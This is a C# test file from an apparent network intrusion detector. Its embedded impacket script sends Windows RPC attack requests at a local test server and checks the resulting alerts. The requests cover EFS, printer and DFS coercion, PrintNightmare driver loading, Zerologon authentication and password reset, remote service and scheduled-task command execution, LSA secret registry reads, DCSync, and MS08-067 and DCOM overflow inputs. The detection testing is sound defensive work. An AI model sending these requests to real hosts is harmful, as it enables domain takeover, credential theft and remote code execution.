using System.Text.Json;
using Sekimori.App.Tests.Kit;

namespace Sekimori.Interop.Guard;

/// <summary>Attacks as impacket encodes them, in NDR20 and in NDR64, without a victim: what `sekimori watch` says of the capture. What is forged by hand might share our own misunderstandings.</summary>
[Trait("Peer", "impacket")]
public sealed class EncoderCaptureTests
{
    private const string Script = """
        import sys
        from impacket.dcerpc.v5 import atsvc, dcomrt, drsuapi, epm, even, even6, mgmt, nrpc, rprn, rrp, scmr, srvs, transport, tsch, wkst
        from impacket.dcerpc.v5.dtypes import DWORD, LPWSTR, NULL, ULONG, WSTR
        from impacket.dcerpc.v5.ndr import NDRCALL
        from impacket.dcerpc.v5.rpcrt import DCERPCException
        from impacket.uuid import string_to_bin, uuidtup_to_bin
        syntax = {'transfer_syntax': ('71710533-beba-4937-8319-b5dbef9ccc36', '1.0')} if sys.argv[3] == 'NDR64' else {}
        def bound(interface):
            d = transport.DCERPCTransportFactory('ncacn_ip_tcp:%s[%s]' % (sys.argv[1], sys.argv[2])).get_dce_rpc(); d.connect()
            d.bind(interface if isinstance(interface, bytes) else uuidtup_to_bin(interface), **syntax)
            return d
        def denied(call, *arguments, **named):
            try: call(*arguments, **named)
            except DCERPCException as e: assert 'access_denied' in str(e), e
            else: sys.exit('a call was answered')
        def send(interface, request, **members):
            for name, value in members.items(): request[name] = value
            denied(bound(interface).request, request)
        def raw(interface, opnum):
            d = bound(interface); d.call(opnum, b'\0' * 100); denied(d.recv)
        def operation(number, *members):
            return type('Operation', (NDRCALL,), {'opnum': number, 'structure': members})()
        other = '\\\\10.9.9.9\\share\\a.b\0'
        for uuid in ('c681d488-d850-11d0-8c52-00c04fd90f7e', 'df1941c5-fe89-4e79-bf10-463657acf44d'):
            send((uuid, '1.0'), operation(0, ('FileName', WSTR), ('Flags', ULONG)), FileName=other, Flags=0)
            send((uuid, '1.0'), operation(4, ('FileName', WSTR)), FileName=other)
        send(rprn.MSRPC_UUID_RPRN, rprn.RpcRemoteFindFirstPrinterChangeNotificationEx(), hPrinter=b'\0' * 20, fdwFlags=rprn.PRINTER_CHANGE_ADD_JOB, pszLocalMachine='\\\\10.9.9.9\0', pOptions=NULL)
        driver = rprn.DRIVER_CONTAINER(); driver['Level'] = 2; driver['DriverInfo']['tag'] = 2
        for name, value in (('cVersion', 3), ('pName', 'x\0'), ('pEnvironment', 'Windows x64\0'), ('pDriverPath', 'C:\\UNIDRV.DLL\0'), ('pDataFile', other), ('pConfigFile', 'C:\\kernelbase.dll\0')):
            driver['DriverInfo']['Level2'][name] = value
        denied(rprn.hRpcAddPrinterDriverEx, bound(rprn.MSRPC_UUID_RPRN), pName=NULL, pDriverContainer=driver, dwFileCopyFlags=0x8014)
        send(('4fc742e0-4a10-11cf-8273-00aa004ae673', '3.0'), operation(13, ('ServerName', WSTR), ('RootShare', WSTR), ('ApiFlags', DWORD)), ServerName='10.9.9.9\0', RootShare='test\0', ApiFlags=1)
        send(('a8e0653c-2744-4389-a61d-7373df8b2292', '1.0'), operation(9, ('ShareName', WSTR)), ShareName='\\\\10.9.9.9\\NETLOGON\0')
        send(even.MSRPC_UUID_EVEN, even.ElfrOpenBELW(), UNCServerName=NULL, BackupFileName='\\??\\UNC\\10.9.9.9\\aa', MajorVersion=1, MinorVersion=1)
        zeros = nrpc.NETLOGON_AUTHENTICATOR(); zeros['Credential'] = b'\0' * 8; zeros['Timestamp'] = 0
        for name in ('DC1', 'DC01', 'DC-01', 'DC-001'):
            common = {'AccountName': name + '$\0', 'SecureChannelType': nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel, 'ComputerName': name + '\0'}
            denied(nrpc.hNetrServerAuthenticate3, bound(nrpc.MSRPC_UUID_NRPC), name + '\0', common['AccountName'], common['SecureChannelType'], common['ComputerName'], b'\0' * 8, 0x212fffff)
            send(nrpc.MSRPC_UUID_NRPC, nrpc.NetrServerPasswordSet2(), PrimaryName=NULL, Authenticator=zeros, ClearNewPassword=b'\0' * 516, **common)
        denied(tsch.hSchRpcRegisterTask, bound(tsch.MSRPC_UUID_TSCHS), '\\x', '<Task><Exec><Command>cmd.exe</Command><Arguments>/C dir</Arguments></Exec></Task>', tsch.TASK_CREATE, NULL, tsch.TASK_LOGON_NONE)
        job = atsvc.AT_INFO(); job['JobTime'] = job['DaysOfMonth'] = job['DaysOfWeek'] = job['Flags'] = 0; job['Command'] = 'cmd.exe /C at\0'
        denied(atsvc.hNetrJobAdd, bound(atsvc.MSRPC_UUID_ATSVC), atInfo=job)
        handle = b'\0' * 20
        denied(scmr.hRCreateServiceW, bound(scmr.MSRPC_UUID_SCMR), handle, 'a\0', 'a\0', lpBinaryPathName='\\\\10.0.0.9\\ADMIN$\\q.exe\0')
        denied(scmr.hRChangeServiceConfigW, bound(scmr.MSRPC_UUID_SCMR), handle, lpBinaryPathName='C:\\x\\cmd.exe /c service\0')
        denied(scmr.hRStartServiceW, bound(scmr.MSRPC_UUID_SCMR), handle)
        for key in ('SYSTEM\\CurrentControlSet\\Control\\Lsa\\Skew1\0', 'SECURITY\\Policy\\Secrets\0'): denied(rrp.hBaseRegOpenKey, bound(rrp.MSRPC_UUID_RRP), rrp.RPC_HKEY(), key)
        denied(srvs.hNetrSessionEnum, bound(srvs.MSRPC_UUID_SRVS), '\0', NULL, 10)
        denied(wkst.hNetrWkstaUserEnum, bound(wkst.MSRPC_UUID_WKST), 1)
        path = operation(31, ('ServerName', LPWSTR), ('PathName', WSTR), ('OutbufLen', DWORD), ('Prefix', WSTR), ('PathType', DWORD), ('Flags', DWORD))
        send(srvs.MSRPC_UUID_SRVS, path, ServerName='X\0', PathName='\\AAAA\\..\\..\\BBBB\0', OutbufLen=1000, Prefix='\\\0', PathType=0, Flags=0)
        raw(drsuapi.MSRPC_UUID_DRSUAPI, 3)
        raw(('91ae6020-9e3c-11cf-8d7c-00aa00c091be', '0.0'), 0)
        raw(even6.MSRPC_UUID_EVEN6, 6)
        denied(mgmt.hinq_if_ids, bound(mgmt.MSRPC_UUID_MGMT))
        denied(epm.hept_lookup, None, dce=bound(epm.MSRPC_UUID_PORTMAP))
        activation = dcomrt.RemoteActivation(); activation['pIIDs'].append(dcomrt.IID()); activation['aRequestedProtseqs'].append(7)
        activation['pIIDs'][0]['Data'] = string_to_bin('00020400-0000-0000-C000-000000000046')
        send(dcomrt.IID_IActivation, activation, Clsid=string_to_bin('C08AFD90-F2A1-11D1-8455-00A0C91F3880'), pwszObjectName='\\\\' + 'A' * 300 + '\\C$\\1.doc\0', pObjectStorage=NULL, ClientImpLevel=2,
             Mode=0, Interfaces=1, cRequestedProtseqs=1)
        """;

    private static readonly string[] ExpectedAlerts =
    [
        "at_job medium", "blaster high", "certificate_relay high", "dcom_execution medium", "dcsync high", "dfs_coercion medium", "dfs_coercion_elsewhere high", "efs_call medium", "efs_coercion high",
        "event_log_cleared high", "event_log_coercion high", "event_log_opened medium", "interfaces_listed low", "mapper_listed low", "ms08_067 high", "print_driver high", "print_driver_call medium",
        "printer_coercion high", "printer_notification medium", "registry_secrets high", "service_changed_and_started medium", "service_command high", "service_created medium",
        "service_created_and_started medium", "service_started low", "session_discovery low", "shadow_coercion medium", "shadow_coercion_elsewhere high", "task_registered medium",
        "zerologon_attempt high", "zerologon_password critical",
    ];

    [Theory]
    [InlineData("NDR20")]
    [InlineData("NDR64")]
    public async Task Attacks_as_impacket_encodes_them_are_told(string syntax)
    {
        await Attacker.NeedAsync("impacket", "python3-impacket");
        using var folder = new TemporaryFolder();
        using var server = new FaultingServer();
        await using (var capture = await Dumpcap.StartAsync(FaultingServer.Address, server.Port, folder.File("calls.pcapng")))
        {
            var (done, said) = await Attacker.RunAsync(Script, FaultingServer.Address, $"{server.Port}", syntax);
            Assert.True(done == 0, said);
            await capture.EndAsync();
        }
        var (code, output, error) = await Command.RunAsync("watch", "--json", folder.File("calls.pcapng"));
        Assert.True(code == 0, error);
        var lines = output.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(line => JsonDocument.Parse(line).RootElement).ToList();
        Assert.Equal(ExpectedAlerts, lines.Where(line => Is(line, "alert")).Select(line => $"{line.GetProperty("name")} {line.GetProperty("severity")}").Distinct().Order(StringComparer.Ordinal));
        // Every one of the four names, whatever padding follows it.
        Assert.Equal(8, lines.Count(line => Is(line, "call") && line.TryGetProperty("zero_credential", out var zero) && zero.GetString() == "true"));
        string[] commands = ["cmd.exe /C dir", "cmd.exe /C at", @"\\10.0.0.9\ADMIN$\q.exe", @"C:\x\cmd.exe /c service"];
        Assert.Equal(commands, lines.Where(line => Is(line, "call") && line.TryGetProperty("command_line", out _)).Select(line => line.GetProperty("command_line").GetString()));
    }

    private static bool Is(JsonElement line, string type) => line.GetProperty("type").GetString() == type;
}
